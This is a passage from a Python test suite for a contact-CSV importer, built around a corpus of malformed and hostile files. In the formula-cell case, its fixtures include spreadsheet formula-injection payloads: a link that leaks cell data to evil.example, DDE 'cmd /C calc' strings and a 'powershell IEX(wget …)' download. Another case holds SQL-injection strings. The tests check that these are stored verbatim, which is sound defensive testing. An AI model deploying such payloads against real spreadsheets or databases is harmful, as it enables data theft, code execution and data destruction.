"""Nothing lost: a hostile-input corpus for the importer.

Every case is a broken or malicious file (or column mapping) with its EXPECTED outcome,
imported through ``import_file`` into a campaign that already holds contacts: two
completed, one failed (call history, always kept), one skipped and two pending (replaced
by any successful import).  For every case:

- the outcome is exactly the expected one: a clean 400 whose message contains the
  fragments a person needs, or a correct import (counts, and stored values spot-checked
  through a separate sqlite3 connection);
- ``import_file`` returns (no exception) and never answers 500 to bad input;
- after a 400 every row of every table is exactly what it was before; after a success
  the call history is untouched, exactly one import run was added, and the campaign
  holds the history plus the imported contacts;
- the call finishes within a time limit (2 s, 10 s for the 50 MB inputs).  Cases with
  big inputs run in a child process that is killed at the limit, so a quadratic blowup
  fails the case instead of stalling the suite.

Two hypothesis tests fuzz the same guarantees with random bytes and random CSV structures
(delimiters, quoting, line endings, encodings, and random mapping JSON).

Inputs are generated (big ones in ``tmp_path`` at test time); nothing is committed.
"""

from __future__ import annotations

import csv
import gzip
import io
import itertools
import json
import os
import random
import sqlite3
import struct
import subprocess
import sys
import textwrap
import time
import traceback
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import contactdesk
from contactdesk.core.campaigns import create_campaign
from contactdesk.core.contacts import mark_phones
from contactdesk.core.importer import import_file
from contactdesk.core.result import RowError

MB = 1024 * 1024
DEFAULT_LIMIT = 2.0  # seconds for one import_file call
BIG_LIMIT = 10.0  # for the 50 MB inputs
MAX_MESSAGE = 1000  # a message or warning longer than this does not help a person
MAX_WARNINGS = 20

# --------------------------------------------------------------------------- the campaign

SEED_CSV = """phone,name,email,company
2125550101,Hist Completed A,a@example.com,Acme
2125550102,Hist Completed B,,
2125550103,Hist Failed C,,
2125550104,Seed Skipped D,,
2125550105,Seed Pending E,,
2125550106,Seed Pending F,,
"""
COMPLETED = ("+12125550101", "+12125550102")
FAILED = ("+12125550103",)
HISTORY = COMPLETED + FAILED  # kept by every import
REPLACEABLE = ("+12125550104", "+12125550105", "+12125550106")  # removed by every successful import

_campaign_numbers = itertools.count(1)


def seed_campaign(campaign_id: int, directory: Path) -> None:
    path = directory / "seed.csv"
    path.write_text(SEED_CSV, encoding="utf-8")
    result = import_file(campaign_id, path)
    assert result.status == 200 and result.imported_count == 6, result.message
    assert mark_phones(campaign_id, "completed", list(COMPLETED)).updated == 2
    assert mark_phones(campaign_id, "failed", list(FAILED)).updated == 1
    assert mark_phones(campaign_id, "skipped", ["+12125550104"]).updated == 1


@pytest.fixture
def seeded(campaign, tmp_path):
    seed_campaign(campaign.id, tmp_path)
    return campaign


# --------------------------------------------------------------------------- the database, read apart


def snapshot(db_path: Path) -> dict[str, list[tuple]]:
    """Every row of every table, read through a separate sqlite3 connection."""
    conn = sqlite3.connect(db_path)
    try:
        tables = [
            name
            for (name,) in conn.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name"
            )
        ]
        return {table: conn.execute(f'SELECT * FROM "{table}" ORDER BY rowid').fetchall() for table in tables}
    finally:
        conn.close()


def query(db_path: Path, sql: str, params=()) -> list[dict]:
    conn = sqlite3.connect(db_path)
    conn.row_factory = sqlite3.Row
    try:
        return [dict(row) for row in conn.execute(sql, params)]
    finally:
        conn.close()


def contacts_by_status(db_path: Path, campaign_id: int) -> dict[str, list[dict]]:
    out: dict[str, list[dict]] = {}
    for row in query(db_path, "SELECT * FROM contact WHERE campaign_id = ? ORDER BY id", (campaign_id,)):
        out.setdefault(row["status"], []).append(row)
    return out


# --------------------------------------------------------------------------- expected outcomes


@dataclass(frozen=True)
class Rejected:
    """A 400 whose message contains every fragment (case-insensitive); nothing changed."""

    fragments: tuple[str, ...]


@dataclass(frozen=True)
class Imported:
    """A successful import with exactly these counts.

    ``stored``: E.164 number -> expected column values of that contact (``variables`` as
    a dict, compared whole).  ``warnings``/``reasons``: fragments that must occur in some
    warning / some row error's reason.  ``check(result, db_path, campaign_id)``: more.
    """

    imported: int
    skipped: int = 0
    invalid: int = 0
    stored: Mapping[str, Mapping[str, object]] = field(default_factory=dict)
    warnings: tuple[str, ...] = ()
    reasons: tuple[str, ...] = ()
    check: Callable | None = None


Content = bytes | Callable[[Path], Path]


@dataclass(frozen=True)
class Case:
    id: str
    content: Content  # the file's bytes, or build(directory) -> path for big or odd files
    expect: Rejected | Imported
    name: str = "contacts.csv"
    mapping: object = None  # column_mappings, or a zero-argument callable that makes it
    limit: float = DEFAULT_LIMIT
    isolate: bool = False  # run in a child process killed at the limit
    platform: str | None = None  # skip unless sys.platform starts with this


def lines(*rows: str, end: str = "\n") -> bytes:
    return "".join(row + end for row in rows).encode("utf-8")


def build_text(name: str, text_or_bytes) -> Callable[[Path], Path]:
    def build(directory: Path) -> Path:
        path = directory / name
        data = text_or_bytes() if callable(text_or_bytes) else text_or_bytes
        path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
        return path

    return build


# --------------------------------------------------------------------------- binary files


def png_bytes() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" + b"\xff\x00\x00" * 2 + b"\x00" + b"\x00\x00\xff" * 2)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def zip_bytes(entries: dict[str, str], first_stored: tuple[str, str] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        if first_stored:
            archive.writestr(zipfile.ZipInfo(first_stored[0], (2024, 1, 1, 0, 0, 0)), first_stored[1])
        for name, text in entries.items():
            info = zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, text)
    return buffer.getvalue()


XLSX = zip_bytes(
    {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Override PartName="/xl/workbook.xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0"?><Relationships/>',
        "xl/workbook.xml": '<?xml version="1.0"?><workbook><sheets><sheet name="Contacts"/></sheets></workbook>',
        "xl/worksheets/sheet1.xml": '<?xml version="1.0"?><worksheet><sheetData><row><c t="inlineStr"><is><t>phone'
        "</t></is></c></row><row><c><v>2125550147</v></c></row></sheetData></worksheet>",
    }
)
PLAIN_ZIP = zip_bytes({"contacts.csv": "phone,name\n2125550147,Ann\n" * 50})
ODS = zip_bytes(
    {"content.xml": "<office:document-content><table:table-cell>phone</table:table-cell></office:document-content>"},
    first_stored=("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
)
PDF = (
    b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    b"3 0 obj\n<< /Length 44 >>\nstream\nBT /F1 12 Tf (phone,name 2125550147,Ann) Tj ET\nendstream\nendobj\n"
    b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    + b"\xff\xdb\x00\x43\x00"
    + bytes(range(64))
    + random.Random(7).randbytes(600)
    + b"\xff\xd9"
)
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
OLE_XLS = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    + bytes(16)
    + b"\x3e\x00\x03\x00\xfe\xff\x09\x00\x06\x00"
    + bytes(10)
    + b"\x01\x00\x00\x00"
    + bytes(8)
    + b"\x00\x10\x00\x00"
    + b"\xff" * 436
    + "Workbook".encode("utf-16-le")
    + bytes(3000)
)
RANDOM_BYTES = random.Random(1234).randbytes(8192)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(4000)
GZIP = gzip.compress(random.Random(3).randbytes(2000) + b"phone,name\n2125550147,Ann\n", mtime=0)


# --------------------------------------------------------------------------- generated files


def numbers(count: int, start: int = 0) -> list[str]:
    """Distinct valid New York numbers (212-7xx-xxxx) that do not collide with the seed."""
    return [f"2127{n:06d}" for n in range(start, start + count)]


def big_rows_file(rows_before: int, bad_row: str, rows_after: int = 2) -> Callable[[Path], Path]:
    def build(directory: Path) -> Path:
        body = ["phone,name"] + [f"{n},Row {i}" for i, n in enumerate(numbers(rows_before))]
        body.append(bad_row)
        body += [f"{n},After" for n in numbers(rows_after, start=rows_before)]
        path = directory / "contacts.csv"
        path.write_bytes("\n".join(body).encode("utf-8") + b"\n")
        return path

    return build


def fifty_mb_single_line(directory: Path) -> Path:
    path = directory / "one_line.csv"
    with path.open("wb") as handle:
        block = b"abcdefghijklmnopqrstuvwxyz" * 40_000  # ~1 MB, no delimiter, digit or newline
        for _ in range(50 * MB // len(block) + 1):
            handle.write(block)
    return path


FIFTY_MB_NOTE = "n" * (50 * MB)


def fifty_mb_field(directory: Path) -> Path:
    path = directory / "long_note.csv"
    with path.open("wb") as handle:
        handle.write(b"phone,name,notes\n2125550160,Before,short\n2125550161,Long Note,")
        handle.write(FIFTY_MB_NOTE.encode("ascii"))
        handle.write(b"\n2125550162,After,short\n")
    return path


def check_fifty_mb_note(result, db_path, campaign_id):
    # Values are limited to 1 MB: the row with the 50 MB note is reported, the others are imported.
    assert (
        query(
            db_path,
            "SELECT count(*) AS n FROM contact WHERE campaign_id = ? AND phone_number = ?",
            (campaign_id, "+12125550161"),
        )[0]["n"]
        == 0
    )
    [error] = result.errors
    assert error.row == 3 and "a value of 52 MB in column notes" in error.reason  # 50 MiB


def same_number_100k(directory: Path) -> Path:
    shapes = ["2125550150", "(212) 555-0150", "+1 212 555 0150", "1-212-555-0150", "212.555.0150"]
    path = directory / "same.csv"
    body = "phone,name\n" + "".join(f"{shapes[i % 5]},Copy {i}\n" for i in range(100_000))
    path.write_bytes(body.encode("ascii"))
    return path


def non_utf8_file_name(directory: Path) -> Path:
    raw = os.fsencode(directory) + b"/caf\xe9 contacts.csv"  # Latin-1 name, as old ZIP tools extract them
    try:
        with open(raw, "wb") as handle:
            handle.write(b"phone,name\n2125550170,Ann\n")
    except OSError as exc:  # file systems that insist on UTF-8 names
        pytest.skip(f"cannot create a non-UTF-8 file name here: {exc}")
    return Path(os.fsdecode(raw))


def check_file_name_stored(result, db_path, campaign_id):
    (run,) = query(db_path, "SELECT file_name FROM import_run WHERE id = ?", (result.import_id,))
    assert run["file_name"].startswith("caf") and run["file_name"].endswith(" contacts.csv")
    run["file_name"].encode("utf-8")  # storable and showable


def ragged_after_preview(directory: Path) -> Path:
    body = ["phone,name"] + [f"{n},Row {i}" for i, n in enumerate(numbers(300))]
    body[251] += ",a value with no column"  # row 252, far past the 100-row preview
    path = directory / "ragged_late.csv"
    path.write_bytes("\n".join(body).encode("utf-8") + b"\n")
    return path


def after_64k(directory: Path) -> Path:
    head = ["phone,name", "2125550110,Zoë Ünal", "2125550111,José Núñez"]
    filler = [f"{n},Filler {i} with some padding text" for i, n in enumerate(numbers(2000))]
    data = "\n".join(head + filler).encode("utf-8")
    assert len(data) > 64 * 1024
    data += b"\n2125550112,Caf\xe9 Ren\xe9e\n2125550113,Zo\xc3\xab Again\n"  # cp1252 bytes past the sample
    path = directory / "late_cp1252.csv"
    path.write_bytes(data)
    return path


def unclosed_quote_late(directory: Path) -> Path:
    body = ["phone,name"] + [f"{n},Row {i}" for i, n in enumerate(numbers(5000))]
    body.append('2125550180,"Never closed')  # row 5002, after 64 KB and after the preview
    body += [f"{n},After" for n in numbers(50, start=5000)]
    path = directory / "late_quote.csv"
    path.write_bytes("\n".join(body).encode("utf-8") + b"\n")
    assert path.stat().st_size > 64 * 1024
    return path


def ten_thousand_columns(with_phone: bool) -> bytes:
    names = ["phone"] if with_phone else ["Contact ID"]
    names += [f"c{i}" for i in range(1, 10_000)]
    row1 = ["2125550190"] + [str(i) for i in range(1, 10_000)]
    row2 = ["2125550191"] + [""] * 9_998 + ["last"]
    return lines(",".join(names), ",".join(row1), ",".join(row2))


def check_ten_thousand_columns(result, db_path, campaign_id):
    (row,) = query(db_path, "SELECT variables FROM contact WHERE phone_number = '+12125550190'")
    variables = json.loads(row["variables"])
    assert len(variables) == 9_999 and variables["c1"] == "1" and variables["c9999"] == "9999"


def mapping_5mb_unknown_columns() -> str:
    text = json.dumps({f"Column number {i}": None for i in range(200_000)})
    assert len(text) > 5 * 1000 * 1000
    return text


def mapping_5mb_padded() -> str:
    return '{"Mobile": "phone_number",' + " " * (5 * MB) + '"Who": "name"}'


def deeply_nested_python_list():
    value: list = []
    for _ in range(100_000):
        value = [value]
    return {"Mobile": value}


def long_phone_rows(valid: bool) -> bytes:
    rows = [
        "phone,name",
        "1" * 10_000 + ",Digits",
        "x" * 10_000 + ",Letters",
        ("212-555-0137 " * 800)[:10_000] + ",Repeated number",
    ]
    if valid:
        rows.append("2125550138,Valid")
    return lines(*rows)


def check_long_phone_errors(result, db_path, campaign_id):
    assert result.errors and all(len(e.value) <= 200 for e in result.errors)
    assert [e.row for e in result.errors] == [2, 3, 4]


def check_formulas_as_text(result, db_path, campaign_id):
    rows = query(
        db_path, "SELECT name, email, company, variables FROM contact WHERE import_run_id = ?", (result.import_id,)
    )
    text = json.dumps(rows, ensure_ascii=False)
    assert "HYPERLINK" in text and "'+cmd" not in text  # kept as typed: no apostrophe, no evaluation


def check_sql_text(result, db_path, campaign_id):
    tables = {r["name"] for r in query(db_path, "SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert {"contact", "import_run", "campaign"} <= tables
    (run,) = query(db_path, "SELECT file_name FROM import_run WHERE id = ?", (result.import_id,))
    assert run["file_name"] == "Robert'); DROP TABLE contact;--.csv"


MAPPING_FILE = lines("Mobile,Who,Notes", "2125550150,Ann,vip", "2125550151,Bob,")
MAPPING_OK = Imported(2, stored={"+12125550150": {"name": "Ann", "variables": {"Notes": "vip"}}})
MAPPING_AUTO = Imported(2, stored={"+12125550150": {"name": "", "variables": {"Who": "Ann", "Notes": "vip"}}})

# --------------------------------------------------------------------------- the corpus

CASES: list[Case] = [
    # ---- nothing to import
    Case("empty_file", b"", Rejected(("empty",))),
    Case("header_only", b"phone,name,email\r\n", Rejected(("header row but no contacts",))),
    Case("header_only_with_sep_line", b"sep=;\nphone;name\n", Rejected(("header row but no contacts",))),
    Case("only_utf8_bom", b"\xef\xbb\xbf", Rejected(("empty",))),
    Case("only_utf16_bom", b"\xff\xfe", Rejected(("empty",))),
    Case("only_newlines", b"\n" * 5000 + b"\r\n" * 5000 + b"\r" * 5000, Rejected(("empty",))),
    Case("only_delimiters", b",,,,,\n , , ,\r\n,\n" * 300, Rejected(("empty",))),
    Case("only_semicolons", b";;;;;;\r\n" * 300, Rejected(("empty",))),
    Case("only_whitespace", b"   \n\t\t\n \r\n" * 100, Rejected(("empty",))),
    Case("a_folder", lambda d: (d / "folder.csv").mkdir() or d / "folder.csv", Rejected(("is a folder",))),
    Case("missing_file", lambda d: d / "gone.csv", Rejected(("does not exist",))),
    # ---- binary files
    Case("png_image", png_bytes(), Rejected(("not a csv", "png image")), name="contacts.png"),
    Case("png_named_csv", png_bytes(), Rejected(("not a csv", "png image"))),
    Case("xlsx_named_csv", XLSX, Rejected(("excel workbook", "save it as csv"))),
    Case("xlsx", XLSX, Rejected(("excel workbook", "save it as csv")), name="contacts.xlsx"),
    Case("zip_archive", PLAIN_ZIP, Rejected(("not a csv", "zip archive")), name="contacts.zip"),
    Case("ods_spreadsheet", ODS, Rejected(("opendocument", "save it as csv")), name="contacts.csv"),
    Case("pdf", PDF, Rejected(("pdf", "export the contacts as csv")), name="contacts.pdf"),
    Case("jpeg", JPEG, Rejected(("not a csv", "jpeg image")), name="contacts.jpg"),
    Case("gif", GIF, Rejected(("not a csv", "gif image")), name="contacts.gif"),
    Case(
        "old_xls_ole_header",
        OLE_XLS,
        Rejected(("old-style excel workbook (.xls)", "save it as csv")),
        name="contacts.xls",
    ),
    Case("random_bytes", RANDOM_BYTES, Rejected(("binary file, not a csv",))),
    Case("elf_executable", ELF, Rejected(("binary file, not a csv",))),
    Case("gzip_compressed", GZIP, Rejected(("binary file, not a csv",)), name="contacts.csv.gz"),
    Case("dev_zero_never_ends", lambda d: Path("/dev/zero"), Rejected(("is a device, not a file",)), platform="linux"),
    # ---- encodings
    Case(
        "invalid_utf8_in_the_middle",
        lines("phone,name,city", "2125550110,Zoë Ünal,Zürich", "2125550111,José Núñez,São Paulo")
        + b"2125550112,Bad \xff\xfe Byte,K\xc3\xb6ln\n2125550113,Half \xed\xa0\x80 Surrogate,x\n"
        + lines("2125550114,李小龍,東京"),
        Imported(
            5,
            warnings=("not valid utf-8",),
            stored={
                "+12125550110": {"name": "Zoë Ünal", "variables": {"city": "Zürich"}},
                "+12125550112": {"name": "Bad ÿþ Byte", "variables": {"city": "Köln"}},
                "+12125550114": {"name": "李小龍", "variables": {"city": "東京"}},
            },
        ),
    ),
    Case(
        "invalid_utf8_after_first_64kb",
        after_64k,
        Imported(
            2004,
            warnings=("not valid utf-8",),
            stored={
                "+12125550111": {"name": "José Núñez"},
                "+12125550112": {"name": "Café Renée"},
                "+12125550113": {"name": "Zoë Again"},
            },
        ),
    ),
    Case(
        "mixed_utf8_and_cp1252_rows",
        lines("phone,name", "2125550115,Zoë Ünal", "2125550116,José Núñez", "2125550117,北京 Li")
        + b"2125550118,M\xfcller\n2125550119,Ren\xe9e \x80uro\n",
        Imported(
            5,
            warnings=("windows-1252",),
            stored={
                "+12125550115": {"name": "Zoë Ünal"},
                "+12125550117": {"name": "北京 Li"},
                "+12125550118": {"name": "Müller"},
                "+12125550119": {"name": "Renée €uro"},
            },
        ),
    ),
    Case(
        "cp1252_only",
        b"phone;name;company\r\n2125550120;M\xfcller;Soci\xe9t\xe9 \x80\r\n",
        Imported(1, stored={"+12125550120": {"name": "Müller", "company": "Société €"}}),
    ),
    Case(
        "nul_bytes_everywhere",
        b"ph\x00one,na\x00me\n212555\x000121,A\x00nn\n\x00\x00\n2125550122,Bob\x00\x00\n\x00",
        Imported(
            2, stored={"+12125550121": {"name": "Ann", "phone_raw": "2125550121"}, "+12125550122": {"name": "Bob"}}
        ),
    ),
    Case(
        "utf16_le_without_bom",
        "phone,name\r\n2125550123,Ünal\r\n2125550124,李\r\n".encode("utf-16-le"),
        Imported(
            2,
            warnings=("no byte order mark",),
            stored={"+12125550123": {"name": "Ünal"}, "+12125550124": {"name": "李"}},
        ),
    ),
    Case(
        "utf16_be_without_bom",
        "phone\tname\n2125550125\tZoë\n".encode("utf-16-be"),
        Imported(1, warnings=("no byte order mark",), stored={"+12125550125": {"name": "Zoë"}}),
    ),
    Case(
        "utf16_with_bom_emoji",
        "phone;name\n2125550126;👩‍👩‍👧 Family 😀\n".encode("utf-16"),
        Imported(1, stored={"+12125550126": {"name": "👩‍👩‍👧 Family 😀"}}),
    ),
    Case(
        "utf16_lone_surrogate_and_odd_length",
        "phone,name\n2125550127,Ann\n".encode("utf-16-le")
        + b"\x00\xd8"
        + "X\n2125550128,B\n".encode("utf-16-le")
        + b"A",
        # The lone odd byte at the end is a line of its own: skipped once as a footer, not an invalid number.
        Imported(2, invalid=1, warnings=("utf-16", "skipped 1 line after"), stored={"+12125550127": {"name": "Ann"}}),
    ),
    Case(
        "utf32_with_bom_emoji",
        "phone,name\n2125550129,Ann 😀 李\n".encode("utf-32"),
        Imported(1, stored={"+12125550129": {"name": "Ann 😀 李"}}),
    ),
    Case(
        "bom_in_the_middle_two_files_pasted",
        lines("\ufeffphone,name", "2125550130,First") + lines("\ufeffphone,name", "2125550131,Second"),
        Imported(2, invalid=1, stored={"+12125550130": {"name": "First"}, "+12125550131": {"name": "Second"}}),
    ),
    # ---- line endings and structure
    Case(
        "cr_only_line_endings",
        b"phone,name\r2125550132,Ann\r2125550133,Bob\r",
        Imported(2, stored={"+12125550133": {"name": "Bob", "source_row": 3}}),
    ),
    Case(
        "mixed_line_endings",
        b"phone,name\r\n2125550134,A\n2125550135,B\r2125550136,C\r\n\n\r2125550137,D",
        Imported(4, stored={"+12125550137": {"name": "D"}}),
    ),
    Case(
        "unicode_line_separators_inside_values",
        lines("phone,name", "2125550138,Ann\u2028Lee", "2125550139,B\u0085c\x0bd\x0ce\u2029f\x1cg\x1dh\x1ei"),
        Imported(
            2,
            stored={
                "+12125550138": {"name": "Ann\u2028Lee"},
                "+12125550139": {"name": "B\u0085c\x0bd\x0ce\u2029f\x1cg\x1dh\x1ei"},
            },
        ),
    ),
    Case(
        "quoted_newlines_delimiters_and_quotes",
        lines(
            "phone,name,notes",
            '2125550140,"Lee, Ann ""Annie""","line one\nline two, still\r\nthree"',
            '2125550141,Stray "quote" inside,x',
        ),
        Imported(
            2,
            stored={
                "+12125550140": {
                    "name": 'Lee, Ann "Annie"',
                    "variables": {"notes": "line one\nline two, still\r\nthree"},
                },
                "+12125550141": {"name": 'Stray "quote" inside'},
            },
        ),
    ),
    Case(
        "unclosed_quote_early",
        lines("phone,name", '2125550142,"Ann', "2125550143,Bob", "2125550144,Cy"),
        Rejected(("row 2", "never closed")),
    ),
    Case("unclosed_quote_late", unclosed_quote_late, Rejected(("row 5002", "never closed"))),
    Case(
        "ragged_rows",
        lines(
            "phone,name,email,company",
            "2125550145,Short",
            "2125550146,Long,l@example.com,Co,extra1,extra2",
            "2125550147",
            ",,,,",
            "2125550148,Full,f@example.com,FullCo",
        ),
        Imported(
            4,
            warnings=("more values than there are columns",),
            stored={
                "+12125550145": {"name": "Short", "email": "", "company": ""},
                "+12125550146": {"name": "Long", "email": "l@example.com", "company": "Co"},
                "+12125550148": {"company": "FullCo", "source_row": 6},
            },
        ),
    ),
    Case(
        "ragged_row_after_the_preview",
        ragged_after_preview,
        Imported(300, warnings=("more values than there are columns",)),
    ),
    Case(
        "duplicate_headers",
        lines("Phone,Name,name,PHONE,Email,email", "2125550149,First,Second,2125550199,a@example.com,b@example.com"),
        Imported(
            1,
            warnings=("same name as an earlier column",),
            stored={
                "+12125550149": {
                    "name": "First",
                    "email": "a@example.com",
                    "variables": {"name_2": "Second", "PHONE_2": "2125550199", "email_2": "b@example.com"},
                }
            },
        ),
    ),
    Case(
        "header_with_5000_empty_names",
        lines("," * 5000 + "phone", "," * 5000 + "2125550152"),
        Imported(1, stored={"+12125550152": {"variables": {}}}),
    ),
    Case(
        "header_with_5000_duplicate_names",
        lines("phone," + ",".join(["Notes"] * 5000), "2125550153," + ",".join(["n"] * 5000)),
        Imported(1),
        isolate=True,
    ),
    Case(
        "ten_thousand_columns",
        ten_thousand_columns(with_phone=True),
        Imported(2, check=check_ten_thousand_columns),
    ),
    Case(
        "ten_thousand_columns_no_phone",
        ten_thousand_columns(with_phone=False),
        Rejected(("no phone number column", "and 9988 more", "'contact id' holds phone numbers")),
    ),
    Case(
        "row_with_1000000_commas",
        lines(
            "phone,name",
            "2125550154,Ann" + "," * 1_000_000,
            "2125550155,Bob",
            "2125550156,Cy" + "," * 1_000_000 + "tail",
        ),
        Imported(3, warnings=("more values than there are columns",), stored={"+12125550154": {"name": "Ann"}}),
    ),
    Case(
        "fifty_mb_single_line",
        fifty_mb_single_line,
        Rejected(("row 1", "longer than 16 mb")),
        limit=BIG_LIMIT,
        isolate=True,
    ),
    Case(
        "first_line_one_60kb_token",
        build_text("token.csv", lambda: "x" * 60_000 + "\n2125550157\n2125550158\n"),
        # No header names a phone, but every value is a 10-digit number: that column is taken, and said so.
        Imported(2, warnings=("because its values are phone numbers",)),
        isolate=True,
    ),
    Case(
        "fifty_mb_field_in_the_middle",
        fifty_mb_field,
        Imported(2, invalid=1, warnings=("longer than 16 mb",), check=check_fifty_mb_note),
        limit=BIG_LIMIT,
        isolate=True,
    ),
    Case(
        "huge_header_names_no_phone",
        lines(",".join(c * 3000 for c in "abc"), "1,2,3"),
        Rejected(("no phone number column",)),
    ),
    Case(
        "html_page",
        lines(
            "<!DOCTYPE html>",
            "<html><head><title>Contacts</title></head>",
            "<body><table><tr><td>phone</td></tr><tr><td>2125550159</td></tr></table></body></html>",
        ),
        Rejected(("no phone number column",)),
        name="contacts.html",
    ),
    Case(
        "headerless_numbers",
        lines("2125550163,Ann", "(212) 555-0164,Bob"),
        Imported(2, stored={"+12125550163": {"variables": {"column_2": "Ann"}, "source_row": 1}}),
    ),
    # ---- cell contents
    Case(
        "formula_cells_stored_as_text",
        lines(
            'phone,name,email,company,notes,"=SUM(A1:A9)"',
            '2125550165,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",=1+1@x.example,'
            "+cmd|' /C calc'!A0,-2+3,@SUM(1+1)*cmd|' /C calc'!A0",
            "2125550166,@SUM(A1:A9),\"=cmd|'/C powershell IEX(wget bit.ly/x)'!A0\",-10,"
            '"=IMPORTXML(CONCAT(""http://x.example/?"",A1),""//a"")",+1',
            "=2125550167,=Formula Phone,,,,",
        ),
        Imported(
            3,
            check=check_formulas_as_text,
            stored={
                "+12125550165": {
                    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
                    "email": "=1+1@x.example",
                    "company": "+cmd|' /C calc'!A0",
                    "variables": {"notes": "-2+3", "=SUM(A1:A9)": "@SUM(1+1)*cmd|' /C calc'!A0"},
                },
                "+12125550166": {
                    "name": "@SUM(A1:A9)",
                    "email": "=cmd|'/C powershell IEX(wget bit.ly/x)'!A0",
                    "company": "-10",
                    "variables": {"notes": '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")', "=SUM(A1:A9)": "+1"},
                },
                "+12125550167": {"name": "=Formula Phone", "phone_raw": "=2125550167"},
            },
        ),
    ),
    Case(
        "emoji_rtl_and_combining_names",
        lines(
            "phone,name,company,ملاحظات",
            "2125550168,👩🏽‍💻 Zoë 🇺🇸,🏢 Co,😀",
            "2125550169,محمد عبد الله,شركة النور,\u200fملاحظة",
            "2125550170,שָׁלוֹם כֹּהֵן,חברה,",
            "2125550171,Zoe\u0308 Ame\u0301lie,,",
            "2125550172,Z\u0337\u0322\u034e\u0344a\u0335\u0321\u031bl\u0337g\u0336o\u0338,,",
            "2125550173,\u202eevil\u202c name,zero\u200bwidth\u200djoin,",
        ),
        Imported(
            6,
            stored={
                "+12125550168": {"name": "👩🏽‍💻 Zoë 🇺🇸", "company": "🏢 Co", "variables": {"ملاحظات": "😀"}},
                "+12125550169": {
                    "name": "محمد عبد الله",
                    "company": "شركة النور",
                    "variables": {"ملاحظات": "\u200fملاحظة"},
                },
                "+12125550170": {"name": "שָׁלוֹם כֹּהֵן", "company": "חברה"},
                "+12125550171": {"name": "Zoe\u0308 Ame\u0301lie"},  # decomposed, not normalized to NFC
                "+12125550172": {"name": "Z\u0337\u0322\u034e\u0344a\u0335\u0321\u031bl\u0337g\u0336o\u0338"},
                "+12125550173": {"name": "\u202eevil\u202c name", "company": "zero\u200bwidth\u200djoin"},
            },
        ),
    ),
    Case(
        "sql_looking_text_stored_verbatim",
        lines(
            'phone,name,email,company,"note\'); DROP TABLE import_run;--"',
            "2125550174,\"Robert'); DROP TABLE contact;--\",x' OR '1'='1,\"'; DELETE FROM campaign; --\","
            "\"1; UPDATE contact SET status='completed'\"",
            '2125550175,"Robert"" OR 1=1 --",%_\\,"\\0 \\x00",',
        ),
        Imported(
            2,
            check=check_sql_text,
            stored={
                "+12125550174": {
                    "name": "Robert'); DROP TABLE contact;--",
                    "email": "x' OR '1'='1",
                    "company": "'; DELETE FROM campaign; --",
                    "variables": {"note'); DROP TABLE import_run;--": "1; UPDATE contact SET status='completed'"},
                    "status": "pending",
                },
                "+12125550175": {"name": 'Robert" OR 1=1 --', "email": "%_\\", "company": "\\0 \\x00"},
            },
        ),
        name="Robert'); DROP TABLE contact;--.csv",
    ),
    Case(
        "ten_thousand_character_phones_among_valid",
        long_phone_rows(valid=True),
        Imported(1, invalid=3, reasons=("too long",), check=check_long_phone_errors),
    ),
    Case(
        "ten_thousand_character_phones_only",
        long_phone_rows(valid=False),
        Rejected(("none of the 3 rows", "usable phone number", "'phone'")),
    ),
    Case(
        "phone_column_all_empty",
        lines("phone,name", ",Ann", " ,Bob", '"",Cy'),
        Rejected(("none of the 3 rows", "usable phone number")),
    ),
    Case(
        "thirty_thousand_invalid_rows",
        lambda d: build_text(
            "many_invalid.csv",
            lambda: (
                "phone,name\n2125550182,Only good one\n"
                + "".join(f"n/a {i},x\n" for i in range(20_000))
                + "".join(f"555-{i % 10_000:04d},local\n" for i in range(10_000))
            ),
        )(d),
        Imported(
            1,
            invalid=30_000,
            reasons=("too short",),
            check=lambda r, db, cid: (
                (len(r.errors) == 1000 and r.error_count == 30_000 and r.errors[0].row == 3)
                or pytest.fail(f"{len(r.errors)} errors listed, error_count {r.error_count}")
            ),
        ),
        limit=5.0,  # 30,000 rows through the phone parser
    ),
    Case(
        "spreadsheet_damage_among_valid",
        lines(
            "phone,name",
            "5.55E+09,Sci",
            "2.12555E+09,Sci2",
            "2125550176.0,Float",
            "1.21255501E10,Sci3",
            "2125550177,Good",
            '"2,125,550,178.00",Thousands',
        ),
        Imported(1, invalid=5, reasons=("scientific notation", "trailing .0")),
    ),
    Case(
        "spreadsheet_damage_only",
